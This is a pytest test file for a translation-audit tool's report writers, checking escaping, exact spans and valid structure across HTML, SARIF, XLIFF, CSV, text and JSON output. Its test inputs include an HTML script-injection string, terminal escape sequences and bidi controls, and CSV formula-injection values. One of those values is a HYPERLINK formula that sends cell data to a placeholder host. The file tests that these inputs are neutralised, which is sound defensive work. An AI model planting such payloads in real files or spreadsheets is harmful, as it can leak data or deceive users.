"""Report writers: exact spans, escaping of untrusted text, valid structure, atomic output."""
import csv
import io
import json

import pytest
from lxml import etree

from audit.core.display import char_display
from audit.core.model import (
    AuditResult,
    Flag,
    Pair,
    PairResult,
    Severity,
    Span,
    fingerprint,
)
from audit.outputs import atomic_write, write_report
from audit.outputs.cells import FORMULA_START, unquote_cell
from audit.outputs.pieces import pieces

NASTY = "Click <script>alert(1)</script> [bold]now[/bold] \x1b[31mred\x1b[0m \u202eevil & more"


def make_flag(pair, code, sev, spans, message="msg"):
    spans = tuple(spans)
    return Flag(pair.id, code, "name", sev, "accuracy/mistranslation", message, spans, fingerprint(code, pair, spans))


def make_result():
    p1 = Pair("1", "Hola <b>mundo</b>.", NASTY, source_lang="es", target_lang="en", index=0)
    s = NASTY.index("<script>")
    f1 = make_flag(p1, "MRK001", Severity.MAJOR, [Span("target", s, s + 8), Span("source", 5, 8)], "tag <b> lost")
    f2 = make_flag(p1, "NUM003", Severity.MINOR, [Span("target", s + 2, s + 20)])
    esc = NASTY.index("\x1b")
    f3 = make_flag(p1, "ENC003", Severity.CRITICAL, [Span("target", esc, esc + 1)], "control \x1b char")
    p2 = Pair("2", "Adiós.", "中文。", source_lang="es", target_lang="zh", index=1)
    f4 = make_flag(p2, "EMP002", Severity.MINOR, [Span("target", 0, 0)])
    p3 = Pair("3", "Sí.", "Yes.", source_lang="es", target_lang="en", index=2)
    segs = (PairResult(p1, (f1, f2, f3)), PairResult(p2, (f4,)), PairResult(p3, ()))
    return AuditResult(segs, "es", "en", "transaudit:test", {}, scores={"quality": 50.0})


def render(fmt):
    buf = io.StringIO()
    write_report(make_result(), fmt, stream=buf)
    return buf.getvalue()


def test_pieces_cover_text_and_overlaps():
    res = make_result()
    seg = res.segments[0]
    text = seg.pair.target
    ps = pieces(text, seg.flags, "target")
    assert "".join(text[a:b] for a, b, _ in ps) == text
    s = text.index("<script>")
    covering = {(a, b): {f.code for f in fl} for a, b, fl in ps}
    assert covering[(s + 2, s + 8)] == {"MRK001", "NUM003"}
    assert covering[(s, s + 2)] == {"MRK001"}


def test_html_escapes_everything_and_marks_spans():
    out = render("html")
    # the page's own script is the only <script> that runs; segment text travels as escaped JSON
    assert out.count("<script>") == 1 and "<script>alert" not in out and "«\\u003cscript\\u003e»" in out
    assert "\x1b" not in out and "\u202e" not in out
    assert "␛" in out and "\\u003cU+202E\\u003e" in out
    assert 'class="sev-major"' in out and 'class="sev-critical"' in out  # the charts' bars
    assert "[bold]now[/bold]" in out  # shown as text, nothing interprets it


def test_sarif_structure():
    d = json.loads(render("sarif"))
    assert d["version"] == "2.1.0"
    run = d["runs"][0]
    results = run["results"]
    assert len(results) == 4
    levels = {r["ruleId"]: r["level"] for r in results}
    assert levels == {"MRK001": "warning", "NUM003": "note", "ENC003": "error", "EMP002": "note"}
    rule_ids = [r["id"] for r in run["tool"]["driver"]["rules"]]
    for r in results:
        assert rule_ids[r["ruleIndex"]] == r["ruleId"]
        assert r["partialFingerprints"]["transaudit/v1"]
        assert r["locations"][0]["logicalLocations"][0]["name"] == r["properties"]["segment"]
    assert run["columnKind"] == "unicodeCodePoints"  # issue 14; the full rules: tests/test_ci_formats.py
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"].endswith("/")


def test_xliff_its_marks_are_exact_and_refs_resolve():
    out = render("xliff")
    root = etree.fromstring(out.encode("utf-8"))
    ns = {"x": "urn:oasis:names:tc:xliff:document:1.2", "its": "http://www.w3.org/2005/11/its"}
    ids = {el.get("{http://www.w3.org/XML/1998/namespace}id") for el in root.iterfind(".//its:locQualityIssues", ns)}
    refs = [el.get("{http://www.w3.org/2005/11/its}locQualityIssuesRef") for el in root.iter()
            if el.get("{http://www.w3.org/2005/11/its}locQualityIssuesRef")]
    assert refs and all(r[1:] in ids for r in refs)
    tu = root.find(".//x:trans-unit[@id='1']", ns)
    target = tu.find("x:target", ns)
    text = "".join(target.itertext())
    assert len(text) == len(NASTY)  # control characters replaced one for one
    marked = "".join(m.text for m in target.iterfind("x:mrk", ns))
    s = NASTY.index("<script>")
    assert marked.startswith(NASTY[s:s + 20])
    types = {i.get("locQualityIssueType") for i in tu.iterfind(".//its:locQualityIssue", ns)}
    assert types == {"markup", "numbers", "characters"}


def test_csv_one_row_per_flag_with_exact_text():
    rows = list(csv.DictReader(io.StringIO(render("csv"))))
    assert len(rows) == 4
    res = make_result()
    for row in rows:
        seg = next(s for s in res.segments if s.pair.id == row["segment_id"])
        side = row["side"]
        exact = seg.pair.text(side)[int(row["start"]):int(row["end"])]
        # control characters (ESC, BEL...) are written as visible stand-ins, nothing else changes
        assert unquote_cell(row["text"]) == "".join(char_display(c) if c in "\x1b\x07\x08" else c for c in exact)


@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x.test/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_csv_cells_never_start_a_formula(evil):
    """CSV injection: text that a spreadsheet would run as a formula is neutralised in every cell,
    and ``unquote_cell`` gives the exact text back."""
    p = Pair(evil, evil, evil, source_lang="es", target_lang="en", index=0)
    f = make_flag(p, "NUM003", Severity.MAJOR, [Span("target", 0, len(evil))], evil)
    res = AuditResult((PairResult(p, (f,)),), "es", "en", "transaudit:test", {})
    buf = io.StringIO()
    write_report(res, "csv", stream=buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    for value in rows[1]:
        assert not value.startswith(FORMULA_START)
    row = dict(zip(rows[0], rows[1]))
    for col in ("segment_id", "message", "text", "source", "target"):
        assert unquote_cell(row[col]) == evil


def test_text_report_never_passes_escapes_through():
    out = render("text")
    assert "\x1b" not in out and "\u202e" not in out
    assert "⟦" in out


def test_text_report_escapes_ids_languages_and_paths():
    """Every field is text: an id, a language code or a file name carrying terminal escapes (a
    title change, a screen clear) or tag characters is shown visibly, never interpreted."""
    from audit.core.model import Origin

    evil = "\x1b]0;owned\x07\x1b[2J" + "".join(chr(0xE0000 + ord(c)) for c in "hi")
    p = Pair("id" + evil, "Hola.", "Hello" + evil, source_lang="es" + evil, target_lang="en" + evil, index=0,
             target_origin=Origin(path="file" + evil + ".tsv", line=3))
    f = make_flag(p, "ENC003", Severity.MAJOR, [Span("target", 5, 6)], "control" + evil)
    res = AuditResult((PairResult(p, (f,)),), "es" + evil, "en" + evil, "transaudit:test" + evil, {})
    buf = io.StringIO()
    write_report(res, "text", stream=buf)
    out = buf.getvalue()
    assert "\x1b" not in out and "\x07" not in out and "\U000E0068" not in out
    assert "␛]0;owned␇" in out and "<U+E0068>" in out


def test_json_contract_text_equals_slice():
    d = json.loads(render("json"))
    for seg in d["segments"]:
        for f in seg["flags"]:
            assert f["text"] == seg[f["side"]][f["start"]:f["end"]]
            for r in f["related"]:
                assert r["text"] == seg[r["side"]][r["start"]:r["end"]]


def test_atomic_write_leaves_no_partial_file(tmp_path):
    target = tmp_path / "out.json"
    target.write_text("old")

    def boom(fh):
        fh.write("partial")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        atomic_write(str(target), boom)
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_xliff_language_codes_with_control_characters_are_written_safely():
    """A language code read from an input header is text too: a control character in it must not
    crash the XLIFF writer (lxml refuses it) and is shown as a control picture."""
    p = Pair("1", "Hello.", "Hola.", source_lang="en\x07", target_lang="es\x1b[2J", index=0)
    res = AuditResult((PairResult(p, ()),), "en\x07", "es\x1b[2J", "transaudit:test", {})
    buf = io.StringIO()
    write_report(res, "xliff", stream=buf)
    root = etree.fromstring(buf.getvalue().encode("utf-8"))
    f = root[0]
    assert f.get("source-language") == "en␇" and f.get("target-language") == "es␛[2J"


def test_text_report_ends_with_charts_in_block_characters():
    from audit.outputs.textcharts import QualityBands, bar

    out = render("text")
    tail = out[out.index("Flags by check"):]
    assert "Segments by quality score" not in tail  # these segments carry no scores
    bands = QualityBands()
    for q in (100.0, 95.0, 90.0, 42.0, 0.0, None):
        bands.add(q)
    assert bands.counts == [1, 0, 0, 0, 1, 0, 0, 0, 0, 3]
    assert bands.lines()[0].split()[0] == "90–100" and bands.lines()[0].endswith(" 3")
    lines = [ln for ln in tail.splitlines() if ln.startswith("  ")]
    by_code = {ln.split()[0]: ln for ln in lines[:4]}
    assert set(by_code) == {"MRK001", "NUM003", "ENC003", "EMP002"}
    assert all(ln.rstrip().endswith(" 1") and "█" * 30 in ln for ln in by_code.values())
    assert bar(1, 8, 8) == "█" and bar(1, 64, 8) == "▏" and bar(0, 5) == "" and len(bar(7, 7)) == 30
    assert bar(3, 16, 4) == "▊" and bar(100, 1, 5) == "█" * 5  # eighths; never past the width
